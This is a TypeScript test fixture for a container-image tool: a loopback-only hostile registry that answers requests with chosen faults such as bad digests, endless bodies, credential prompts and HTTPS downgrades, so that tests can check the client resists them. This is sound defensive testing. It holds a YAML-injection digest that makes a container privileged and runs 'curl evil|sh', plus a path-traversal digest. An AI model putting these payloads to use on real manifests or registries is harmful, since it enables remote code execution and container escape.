/**
 * A HOSTILE registry for tests: a fault injector, not a registry. It speaks just enough of the distribution API
 * (HEAD/GET /v2/<repo>/manifests/<ref>, 401 challenges, a token endpoint) to answer each request with one chosen fault
 * that a real registry (test/support/registry-server.ts, Debian's docker-registry, used for every normal path) cannot be
 * made to produce: digests that are YAML, digests that do not match the bytes, endless or oversized bodies, indexes
 * whose children are paths, redirects that downgrade to plain HTTP or carry a token request to another origin, token
 * realms on remote hosts, 429 and 500.
 *
 * The fault is chosen by the first segment of the repository: `127.0.0.1:<port>/flowinject/app:v1` gets the
 * `flowinject` fault (see FAULTS). Every request is recorded with what it carried (its Authorization header and body),
 * so a test can assert that a secret never arrived somewhere. One port serves both plain HTTP and HTTPS (the first byte
 * of a connection tells a TLS handshake from a request line), so `https://127.0.0.1:<port>` → `http://127.0.0.1:<port>`
 * is a redirect to the same host with another scheme. A CONNECT proxy (startConnectProxy) gives it non-loopback names
 * such as `reg.hostile.test`. Listens on 127.0.0.1 only; never contacts anything.
 */
import { createHash } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { createServer as createNetServer, connect, type AddressInfo, type Socket } from 'node:net';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { TLSSocket } from 'node:tls';

export const OCI_INDEX = 'application/vnd.oci.image.index.v1+json';
export const OCI_MANIFEST = 'application/vnd.oci.image.manifest.v1+json';

/** The manifest every fault serves when it serves one (the bytes only matter for their digests). */
export const MANIFEST = JSON.stringify({
  schemaVersion: 2,
  mediaType: OCI_MANIFEST,
  config: { mediaType: 'application/vnd.oci.image.config.v1+json', size: 2, digest: `sha256:${'4'.repeat(64)}` },
  layers: [],
});

export function digestOf(body: string | Buffer, algorithm: 'sha256' | 'sha384' | 'sha512' = 'sha256'): string {
  return `${algorithm}:${createHash(algorithm).update(body).digest('hex')}`;
}

/** The injection of issue 17: a "digest" that, written into a flow-style manifest, makes the container privileged. */
export const INJECTION = `sha512:${'e'.repeat(128)}, securityContext: {privileged: true}, command: [sh, -c, "curl evil|sh"]`;

export interface HostileRequest {
  method: string;
  path: string;
  tls: boolean;
  /** The Host header. */
  host: string;
  authorization?: string;
  body: string;
}

export interface Hostile {
  /** 127.0.0.1:<port> */
  host: string;
  port: number;
  base: string;
  httpsBase: string;
  requests: HostileRequest[];
  /** Where the `redirect` token endpoint sends token requests (another origin). */
  elsewhere?: string;
  /** How many manifest answers the `moving` fault gave (its digest changes with each GET/HEAD). */
  moves: number;
  /** Bytes the endless bodies wrote before the client hung up. */
  streamed: number;
  stop: () => Promise<void>;
}

export interface HostileCert {
  certFile: string;
  keyFile: string;
  cert: string;
  key: string;
}

/** A self-signed certificate for 127.0.0.1, localhost and the *.hostile.test names the proxy maps. */
export function hostileCert(): HostileCert {
  const dir = mkdtempSync(join(tmpdir(), 'pod-lens-hostile-tls-'));
  const certFile = join(dir, 'cert.pem');
  const keyFile = join(dir, 'key.pem');
  execFileSync(
    'openssl',
    ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', keyFile, '-out', certFile, '-days', '2', '-subj', '/CN=hostile.test', '-addext', 'subjectAltName=IP:127.0.0.1,DNS:localhost,DNS:reg.hostile.test,DNS:auth.hostile.test'],
    { stdio: 'ignore' },
  );
  return { certFile, keyFile, cert: readFileSync(certFile, 'utf8'), key: readFileSync(keyFile, 'utf8') };
}

function movingManifest(n: number): string {
  return JSON.stringify({ ...(JSON.parse(MANIFEST) as object), annotations: { build: String(n) } });
}

/** The digest of the `moving` fault's n-th answer. */
export function movingDigest(n: number): string {
  return digestOf(movingManifest(n));
}

type Fault = (ctx: FaultContext) => void;

interface FaultContext {
  req: IncomingMessage;
  res: ServerResponse;
  tls: boolean;
  /** The repository after the fault segment and the reference: /v2/<fault>/<rest>/manifests/<ref>. */
  reference: string;
  hostile: Hostile;
  /** The base URL the client used (scheme and Host header), and its HTTPS twin. */
  self: string;
  httpsSelf: string;
}

function manifestAnswer(res: ServerResponse, method: string, headers: Record<string, string | number>, body = MANIFEST): void {
  res.writeHead(200, { 'Content-Type': OCI_MANIFEST, ...headers });
  res.end(method === 'HEAD' ? undefined : body);
}

/** GET answers with `digest` as Docker-Content-Digest; HEAD answers without one (so clients GET). */
function getClaims(digest: string): Fault {
  return ({ req, res }) => manifestAnswer(res, req.method!, req.method === 'HEAD' ? {} : { 'Docker-Content-Digest': digest });
}

/**
 * "Endless" bodies stop at 64 MiB, sixteen times the manifest cap: enough to tell a client that stops reading at its cap
 * from one that does not, without letting a client that has no cap eat the test machine's memory.
 */
export const ENDLESS_BYTES = 64 * 1024 * 1024;

function endless(ctx: FaultContext, headers: Record<string, string | number>): void {
  const { res, hostile } = ctx;
  res.writeHead(200, headers);
  const chunk = Buffer.alloc(64 * 1024, 0x20);
  let sent = 0;
  const pump = () => {
    while (!res.destroyed && sent < ENDLESS_BYTES) {
      sent += chunk.length;
      hostile.streamed += chunk.length;
      if (!res.write(chunk)) return void res.once('drain', pump);
    }
    if (!res.destroyed) res.destroy();
  };
  res.on('close', () => res.removeAllListeners('drain'));
  pump();
}

function basicGate(ctx: FaultContext): boolean {
  if (ctx.req.headers.authorization) return true;
  ctx.res.writeHead(401, { 'WWW-Authenticate': 'Basic realm="hostile"' }).end();
  return false;
}

function bearer(realm: string): Fault {
  return ({ req, res }) => {
    if (req.headers.authorization?.startsWith('Bearer ')) return manifestAnswer(res, req.method!, { 'Docker-Content-Digest': digestOf(MANIFEST) });
    res.writeHead(401, { 'WWW-Authenticate': `Bearer realm="${realm}",service="hostile",scope="repository:x:pull"` }).end();
  };
}

/** The faults, by the first segment of the repository. */
export const FAULTS: Record<string, Fault> = {
  /** A well-behaved answer (the control). */
  good: ({ req, res }) => manifestAnswer(res, req.method!, { 'Docker-Content-Digest': digestOf(MANIFEST) }),
  /** Issue 17 item 1: HEAD has no digest; GET's Docker-Content-Digest is YAML that makes the container privileged. */
  flowinject: getClaims(INJECTION),
  /** A header that would close a double-quoted scalar and start a comment. */
  quoteinject: getClaims('x" # injected'),
  /** The right sha256, in uppercase hex (not the grammar). */
  uppercase: getClaims(digestOf(MANIFEST).toUpperCase().replace('SHA256', 'sha256')),
  /** One hex character short. */
  shortdigest: getClaims(digestOf(MANIFEST).slice(0, -1)),
  /** A well-formed sha512 of other bytes. */
  wrongsha512: getClaims(digestOf(`${MANIFEST} `, 'sha512')),
  /** A correct sha512 (must be verified and pinned like sha256). */
  sha512: getClaims(digestOf(MANIFEST, 'sha512')),
  /** A correct sha384. */
  sha384: getClaims(digestOf(MANIFEST, 'sha384')),
  /** HEAD answers the injection; GET answers honestly. */
  headinject: ({ req, res }) => manifestAnswer(res, req.method!, { 'Docker-Content-Digest': req.method === 'HEAD' ? INJECTION : digestOf(MANIFEST) }),
  /** GET streams spaces for ever (no Content-Length). */
  huge: (ctx) => (ctx.req.method === 'HEAD' ? manifestAnswer(ctx.res, 'HEAD', {}) : endless(ctx, { 'Content-Type': OCI_MANIFEST })),
  /** GET announces 1 GiB. */
  hugedeclared: (ctx) => (ctx.req.method === 'HEAD' ? manifestAnswer(ctx.res, 'HEAD', {}) : endless(ctx, { 'Content-Type': OCI_MANIFEST, 'Content-Length': 1024 ** 3 })),
  /** An index that is not JSON. */
  badindex: ({ req, res }) => {
    const body = '{"manifests": [';
    res.writeHead(200, { 'Content-Type': OCI_INDEX, 'Docker-Content-Digest': digestOf(body) }).end(req.method === 'HEAD' ? undefined : body);
  },
  /** JSON that is not an index. */
  notindex: ({ req, res }) => {
    const body = JSON.stringify({ schemaVersion: 2, manifests: 'none' });
    res.writeHead(200, { 'Content-Type': OCI_INDEX, 'Docker-Content-Digest': digestOf(body) }).end(req.method === 'HEAD' ? undefined : body);
  },
  /** An index whose linux/amd64 child "digest" is a path out of the repository. */
  evilchild: ({ req, res }) => {
    const body = JSON.stringify({
      schemaVersion: 2,
      mediaType: OCI_INDEX,
      manifests: [
        { mediaType: OCI_MANIFEST, size: 1, digest: '../../../../v2/evil/manifests/x', platform: { os: 'linux', architecture: 'amd64' } },
        { mediaType: OCI_MANIFEST, size: 1, digest: `sha256:${'Z'.repeat(64)}`, platform: { os: 'linux', architecture: 'arm64' } },
      ],
    });
    res.writeHead(200, { 'Content-Type': OCI_INDEX, 'Docker-Content-Digest': digestOf(body) }).end(req.method === 'HEAD' ? undefined : body);
  },
  /** 429 without Retry-After. */
  ratelimited: ({ res }) => res.writeHead(429).end('{"errors":[{"code":"TOOMANYREQUESTS"}]}'),
  /** 500. */
  servererror: ({ res }) => res.writeHead(500).end('boom'),
  /** Wants Basic credentials, then answers honestly (what a credential-phishing mirror does). */
  basic: (ctx) => {
    if (basicGate(ctx)) manifestAnswer(ctx.res, ctx.req.method!, { 'Docker-Content-Digest': digestOf(MANIFEST) });
  },
  /** Docker Hub's official images through a mirror: the same credential-phishing answer. */
  library: (ctx) => FAULTS.basic!(ctx),
  /** A Bearer challenge whose token endpoint redirects the token request to another origin. */
  tokenredirect: (ctx) => bearer(`${ctx.self}/token/redirect`)(ctx),
  /** A token endpoint that streams for ever. */
  tokenhuge: (ctx) => bearer(`${ctx.self}/token/huge`)(ctx),
  /** A token endpoint that answers with something that is not JSON. */
  tokennotjson: (ctx) => bearer(`${ctx.self}/token/notjson`)(ctx),
  /** A token endpoint on HTTPS that redirects to plain HTTP on the same host. */
  tokendowngrade: (ctx) => bearer(`${ctx.httpsSelf}/token/downgrade`)(ctx),
  /** A token realm over plain HTTP on a remote host (mapped by the CONNECT proxy), for a registry on loopback. */
  remoterealm: bearer('http://auth.hostile.test/token/ok'),
  /** Over HTTPS: asks for Basic credentials, then redirects the authenticated request to plain HTTP on the same host. */
  downgrade: (ctx) => {
    if (!ctx.tls) return manifestAnswer(ctx.res, ctx.req.method!, { 'Docker-Content-Digest': digestOf(MANIFEST) });
    if (!basicGate(ctx)) return;
    ctx.res.writeHead(307, { Location: `http://${ctx.req.headers.host}${ctx.req.url}` }).end();
  },
  /** A tag that moves: every answer is a new manifest (with a new digest, movingDigest(n) for the n-th answer). */
  moving: ({ req, res, hostile }) => {
    hostile.moves++;
    const body = movingManifest(hostile.moves);
    manifestAnswer(res, req.method!, { 'Docker-Content-Digest': digestOf(body) }, body);
  },
};

const TOKENS: Record<string, Fault> = {
  ok: ({ res }) => res.writeHead(200, { 'Content-Type': 'application/json' }).end('{"token":"hostile-token","expires_in":300}'),
  redirect: ({ req, res, hostile }) => res.writeHead(307, { Location: `${hostile.elsewhere ?? 'http://127.0.0.1:9'}/token/ok${req.url?.slice(req.url.indexOf('?')) ?? ''}` }).end(),
  huge: (ctx) => endless(ctx, { 'Content-Type': 'application/json' }),
  notjson: ({ res }) => res.writeHead(200, { 'Content-Type': 'application/json' }).end('<html>sign in</html>'),
  downgrade: (ctx) => {
    if (ctx.tls) return ctx.res.writeHead(307, { Location: `http://${ctx.req.headers.host}${ctx.req.url}` }).end();
    TOKENS.ok!(ctx);
  },
};

export async function startHostileRegistry(cert: HostileCert = hostileCert()): Promise<Hostile> {
  const requests: HostileRequest[] = [];
  const sockets = new Set<Socket>();
  // Assigned once the servers listen; the request handler below reads it only after that.
  // eslint-disable-next-line prefer-const
  let hostile: Hostile;
  const handler = (req: IncomingMessage, res: ServerResponse) => {
    const tls = (req.socket as TLSSocket).encrypted === true;
    const chunks: Buffer[] = [];
    req.on('data', (d: Buffer) => chunks.push(d));
    req.on('end', () => {
      const path = req.url ?? '/';
      requests.push({ method: req.method ?? '', path, tls, host: req.headers.host ?? '', ...(req.headers.authorization ? { authorization: req.headers.authorization } : {}), body: Buffer.concat(chunks).toString('utf8') });
      const self = `${tls ? 'https' : 'http'}://${req.headers.host}`;
      const ctx = { req, res, tls, reference: '', hostile, self, httpsSelf: `https://${req.headers.host}` };
      const token = /^\/token\/([a-z]+)/.exec(path);
      if (token) return (TOKENS[token[1]!] ?? TOKENS.ok!)(ctx);
      const m = /^\/v2\/([^/]+)\/(?:.+\/)?manifests\/([^/?]+)$/.exec(path.split('?')[0]!);
      const fault = m ? FAULTS[m[1]!] : undefined;
      if (!m || !fault) return res.writeHead(404, { 'Content-Type': 'application/json' }).end('{"errors":[{"code":"NAME_UNKNOWN"}]}');
      fault({ ...ctx, reference: m[2]! });
    });
  };
  const plain = createHttpServer(handler);
  const secure = createHttpsServer({ cert: cert.cert, key: cert.key }, handler);
  // One port for both: a TLS handshake starts with 0x16.
  const front = createNetServer((socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
    socket.on('error', () => socket.destroy());
    socket.once('data', (first) => {
      socket.pause();
      socket.unshift(first);
      (first[0] === 0x16 ? secure : plain).emit('connection', socket);
      process.nextTick(() => socket.resume());
    });
  });
  await new Promise<void>((resolve) => front.listen(0, '127.0.0.1', resolve));
  const port = (front.address() as AddressInfo).port;
  hostile = {
    host: `127.0.0.1:${port}`,
    port,
    base: `http://127.0.0.1:${port}`,
    httpsBase: `https://127.0.0.1:${port}`,
    requests,
    moves: 0,
    streamed: 0,
    stop: () =>
      new Promise((resolve) => {
        for (const s of sockets) s.destroy();
        front.close(() => resolve());
      }),
  };
  return hostile;
}

export interface ConnectProxy {
  url: string;
  /** host:port pairs asked for, in order. */
  tunnels: string[];
  stop: () => Promise<void>;
}

/** An HTTP CONNECT proxy that maps made-up host names (any port) to loopback ports and refuses everything else. */
export async function startConnectProxy(routes: Record<string, number>): Promise<ConnectProxy> {
  const tunnels: string[] = [];
  const sockets = new Set<Socket>();
  const server = createNetServer((client) => {
    sockets.add(client);
    client.on('close', () => sockets.delete(client));
    client.on('error', () => client.destroy());
    client.once('data', (head) => {
      const line = head.toString('latin1').split('\r\n')[0] ?? '';
      const m = /^CONNECT \[?([^\]\s]+?)\]?:(\d+) /.exec(line);
      const port = m ? routes[m[1]!] : undefined;
      if (!m || port === undefined) {
        client.end('HTTP/1.1 403 Forbidden\r\n\r\n');
        return;
      }
      tunnels.push(`${m[1]}:${m[2]}`);
      const upstream = connect(port, '127.0.0.1', () => {
        client.write('HTTP/1.1 200 Connection Established\r\n\r\n');
        upstream.pipe(client);
        client.pipe(upstream);
      });
      sockets.add(upstream);
      upstream.on('close', () => sockets.delete(upstream));
      upstream.on('error', () => client.destroy());
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    tunnels,
    stop: () =>
      new Promise((resolve) => {
        for (const s of sockets) s.destroy();
        server.close(() => resolve());
      }),
  };
}
